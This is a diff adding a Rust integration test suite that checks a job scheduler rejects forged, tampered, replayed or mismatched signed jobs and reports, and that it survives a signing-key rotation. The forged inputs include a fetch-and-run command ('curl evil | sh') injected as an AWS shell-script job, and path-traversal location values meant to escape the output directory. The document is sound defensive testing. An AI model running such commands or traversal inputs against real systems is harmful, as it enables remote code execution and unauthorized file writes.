@@ -1,0 +1,356 @@
+//! Trust II, as an attacker with the broker's credentials would try it, on
+//! real RabbitMQ and Redis: forged, tampered, replayed and mismatched jobs
+//! and reports are dead-lettered without being acted on; a key rotation
+//! keeps a run going.
+
+#![allow(clippy::unwrap_used)]
+
+mod support;
+
+use std::time::Duration;
+
+use protocol::Job;
+use protocol::envelope;
+use protocol::job::{Location, Priority, UnixMillis};
+use protocol::report::{LocationFailed, LocationFailure, StepResults};
+use protocol::run::RunState;
+use protocol::signing::{Keyring, SignerKind, SigningIdentity};
+use protocol::status::StatusDetail;
+use protocol::{Report, report::TargetResult};
+use support::Stack;
+use uuid::Uuid;
+
+/// Ready messages in the deployment's dead-letter queue.
+async fn dead_lettered(broker: &broker::Broker) -> u32 {
+    let dead = broker.names().dead_letter_queue();
+    broker
+        .queue_depths()
+        .await
+        .unwrap()
+        .into_iter()
+        .find(|(queue, _)| *queue == dead)
+        .map_or(0, |(_, ready)| ready)
+}
+
+async fn wait_for_dead_letters(broker: &broker::Broker, count: u32) {
+    for _ in 0..100 {
+        if dead_lettered(broker).await >= count {
+            return;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    panic!(
+        "expected {count} dead-lettered messages, found {}",
+        dead_lettered(broker).await
+    );
+}
+
+/// A broker connection of the test's own that signs with `keys`.
+async fn broker_signing(stack: &Stack, keys: Keyring) -> broker::Broker {
+    broker::Broker::connect(&stack.amqp_url, stack.names.clone(), "attacker")
+        .await
+        .unwrap()
+        .with_keyring(keys)
+}
+
+/// A completed one-step run on one location of 50 instances, and a worker
+/// whose messages older than a minute are refused.
+async fn completed_run() -> (Stack, Uuid) {
+    let mut stack = Stack::start(support::single_location(50, false)).await;
+    let mut config = stack.worker_config("worker", 4);
+    config.keys = config.keys.with_max_age(Duration::from_secs(60));
+    stack.spawn_worker_with(config);
+    let campaign = stack.campaign("trusted", support::one_step("  max_errors: 0\n"));
+    let run_id = stack.start_run(&campaign).await;
+    let progress = stack
+        .wait_until_final(run_id, Duration::from_secs(60))
+        .await;
+    assert_eq!(progress.state, RunState::Completed, "{progress:#?}");
+    (stack, run_id)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn forged_tampered_replayed_and_mismatched_jobs_are_dead_lettered_and_never_sent() {
+    let (stack, run_id) = completed_run().await;
+    let sent_before = stack.commands().len();
+    let plan = stack.scheduler.plan(run_id).await.unwrap();
+    let location = plan.locations[0].clone();
+    let batch = scheduler::ledger::BatchEntry {
+        location: scheduler::ledger::location_key(&location),
+        batch_id: 7_000,
+        step_index: 0,
+        instance_ids: vec!["i-00000000000000001".into()],
+    };
+    let genuine = plan.execute_job(&batch).unwrap();
+    let scheduler_key = stack.keys.scheduler.signer().unwrap().clone();
+    let worker_key = stack.keys.worker.signer().unwrap().clone();
+    let now = UnixMillis::now();
+    let seal =
+        |job: &Job, key: &SigningIdentity, at: UnixMillis| envelope::seal(job, key, at).unwrap();
+
+    // The attacker's own job: any document, any parameters.
+    let mut shell = genuine.clone();
+    if let Job::Execute(execute) = &mut shell {
+        execute.step.document = "AWS-RunShellScript".into();
+        execute.step.parameters = [("commands".to_string(), vec!["curl evil | sh".into()])].into();
+    }
+    let mut foreign_run = genuine.clone();
+    if let Job::Execute(execute) = &mut foreign_run {
+        execute.run.run_id = Uuid::new_v4();
+    }
+    let mut foreign_location = genuine.clone();
+    if let Job::Execute(execute) = &mut foreign_location {
+        execute.location = Location {
+            account_id: "999999999999".into(),
+            region: location.region.clone(),
+        };
+    }
+    let stranger = SigningIdentity::generate(SignerKind::Scheduler, "stranger").unwrap();
+    let impostor = SigningIdentity::generate(SignerKind::Scheduler, &scheduler_key.id).unwrap();
+    let mut tampered = seal(&genuine, &scheduler_key, now);
+    let middle = tampered.len() / 2;
+    tampered[middle] ^= 0x01;
+    let mut unsigned = seal(&genuine, &scheduler_key, now);
+    unsigned.truncate(unsigned.len() - 64);
+
+    let forgeries: Vec<(&str, Vec<u8>)> = vec![
+        ("no signature", unsigned),
+        ("a key nobody trusts", seal(&genuine, &stranger, now)),
+        (
+            "a trusted key id, another key",
+            seal(&genuine, &impostor, now),
+        ),
+        ("a tampered byte", tampered),
+        (
+            "a replay older than the window",
+            seal(&genuine, &scheduler_key, UnixMillis(now.0 - 120_000)),
+        ),
+        (
+            "a document the run did not record",
+            seal(&shell, &scheduler_key, now),
+        ),
+        (
+            "a run that does not exist",
+            seal(&foreign_run, &scheduler_key, now),
+        ),
+        (
+            "a location not in the run",
+            seal(&foreign_location, &scheduler_key, now),
+        ),
+        (
+            "an Execute job signed by a worker key",
+            seal(&genuine, &worker_key, now),
+        ),
+    ];
+    let attacker = broker_signing(&stack, Keyring::default()).await;
+    for (what, bytes) in &forgeries {
+        attacker
+            .publish_sealed_job(Priority::Bulk, bytes)
+            .await
+            .unwrap_or_else(|error| panic!("publishing {what}: {error}"));
+    }
+    wait_for_dead_letters(&attacker, forgeries.len() as u32).await;
+    // Another second for anything that slipped through to reach the simulator.
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    assert_eq!(
+        stack.commands().len(),
+        sent_before,
+        "a forged job was sent: {:?}",
+        stack.commands().last()
+    );
+    assert_eq!(dead_lettered(&attacker).await, forgeries.len() as u32);
+    attacker.close().await;
+    stack.teardown().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn forged_reports_change_no_counter_and_write_no_file() {
+    let (stack, run_id) = completed_run().await;
+    let before = stack.scheduler.progress(run_id).await.unwrap();
+    let files_before = files_under(stack.results.path());
+    let plan = stack.scheduler.plan(run_id).await.unwrap();
+    let location = plan.locations[0].clone();
+    let admitted_target = stack.records(run_id)[0].instance_id.clone();
+    let result = |instance_id: &str| TargetResult {
+        instance_id: instance_id.into(),
+        status: StatusDetail::Failed,
+        command_id: Some("forged".into()),
+        requested_at: None,
+        started_at: None,
+        finished_at: None,
+        response_code: Some(1),
+        output_excerpt: "forged".into(),
+        compliance: None,
+        compliance_missing: None,
+    };
+    let results = |run_id: Uuid, location: &Location, batch_id: u32, instance_id: &str| {
+        Report::StepResults(StepResults {
+            run_id,
+            location: location.clone(),
+            batch_id,
+            step_index: 0,
+            results: vec![result(instance_id)],
+        })
+    };
+    let escaping = Location {
+        account_id: "x/../..".into(),
+        region: "../../../tmp".into(),
+    };
+    let foreign = Location {
+        account_id: "999999999999".into(),
+        region: location.region.clone(),
+    };
+    let worker_key = stack.keys.worker.signer().unwrap().clone();
+    let scheduler_key = stack.keys.scheduler.signer().unwrap().clone();
+    let now = UnixMillis::now();
+    let forgeries: Vec<(&str, Vec<u8>)> = vec![
+        (
+            "a run that does not exist",
+            envelope::seal(
+                &results(Uuid::new_v4(), &location, 0, &admitted_target),
+                &worker_key,
+                now,
+            )
+            .unwrap(),
+        ),
+        (
+            "a location outside the output root",
+            envelope::seal(
+                &results(run_id, &escaping, 0, &admitted_target),
+                &worker_key,
+                now,
+            )
+            .unwrap(),
+        ),
+        (
+            "a location not in the run",
+            envelope::seal(
+                &results(run_id, &foreign, 0, &admitted_target),
+                &worker_key,
+                now,
+            )
+            .unwrap(),
+        ),
+        (
+            "a batch the run never admitted",
+            envelope::seal(
+                &results(run_id, &location, 999_000, &admitted_target),
+                &worker_key,
+                now,
+            )
+            .unwrap(),
+        ),
+        (
+            "a location failure of a foreign location",
+            envelope::seal(
+                &Report::LocationFailed(LocationFailed {
+                    run_id,
+                    location: foreign.clone(),
+                    reason: LocationFailure::AccessDenied,
+                    detail: "forged".into(),
+                }),
+                &worker_key,
+                now,
+            )
+            .unwrap(),
+        ),
+        (
+            "a report signed by a scheduler key",
+            envelope::seal(
+                &results(run_id, &location, 0, &admitted_target),
+                &scheduler_key,
+                now,
+            )
+            .unwrap(),
+        ),
+    ];
+    let attacker = broker_signing(&stack, Keyring::default()).await;
+    for (what, bytes) in &forgeries {
+        attacker
+            .publish_sealed_report(bytes)
+            .await
+            .unwrap_or_else(|error| panic!("publishing {what}: {error}"));
+    }
+    wait_for_dead_letters(&attacker, forgeries.len() as u32).await;
+    let after = stack.scheduler.progress(run_id).await.unwrap();
+    assert_eq!(after.results, before.results, "a forged report was counted");
+    assert_eq!(
+        (after.failures, after.locations_failed, after.locations_done),
+        (
+            before.failures,
+            before.locations_failed,
+            before.locations_done
+        )
+    );
+    assert_eq!(
+        files_under(stack.results.path()),
+        files_before,
+        "a forged report wrote a file"
+    );
+    let outside = stack.results.path().parent().unwrap().join("tmp");
+    assert!(!outside.join("region=..").exists());
+    attacker.close().await;
+    stack.teardown().await;
+}
+
+fn files_under(root: &std::path::Path) -> Vec<String> {
+    let mut files = Vec::new();
+    let mut dirs = vec![root.to_path_buf()];
+    while let Some(dir) = dirs.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                dirs.push(path);
+            } else {
+                files.push(path.display().to_string());
+            }
+        }
+    }
+    files.sort();
+    files
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_run_keeps_going_across_a_scheduler_key_rotation() {
+    let mut stack = Stack::start(support::single_location(400, false)).await;
+    let old = stack.keys.scheduler.signer().unwrap().clone();
+    let worker = stack.keys.worker.signer().unwrap().clone();
+    let new = SigningIdentity::generate(SignerKind::Scheduler, "scheduler-rotated").unwrap();
+    // Step 1 of a rotation: every worker trusts both scheduler keys.
+    let ring = |lines: &[String]| Keyring::parse_trusted(&lines.join("\n")).unwrap();
+    let mut config = stack.worker_config("worker", 8);
+    config.keys = ring(&[old.public_line(), new.public_line()]).signing_as(worker.clone());
+    stack.spawn_worker_with(config);
+    let campaign = stack.campaign(
+        "rotated",
+        format!(
+            "{}api_rate_limits:\n  send_command: 2\n",
+            support::one_step("  max_concurrency: 100\n  max_errors: 0\n")
+        ),
+    );
+    let run_id = stack.start_run(&campaign).await;
+    stack.wait_for_commands(2).await;
+    // Step 2: the scheduler restarts signing with the new key, mid-run.
+    stack.kill_scheduler();
+    stack.scheduler_config_mut().keys = ring(&[worker.public_line()]).signing_as(new);
+    stack.start_scheduler();
+    let progress = stack
+        .wait_until_final(run_id, Duration::from_secs(90))
+        .await;
+    assert_eq!(progress.state, RunState::Completed, "{progress:#?}");
+    let records = stack.records(run_id);
+    assert_eq!(records.len(), 400, "one result per target");
+    let executions = stack.executions();
+    assert!(
+        executions.values().all(|&count| count == 1),
+        "an instance ran twice across the rotation"
+    );
+    let observer = broker_signing(&stack, Keyring::default()).await;
+    assert_eq!(
+        dead_lettered(&observer).await,
+        0,
+        "a message was refused across the rotation"
+    );
+    observer.close().await;
+    stack.teardown().await;
+}
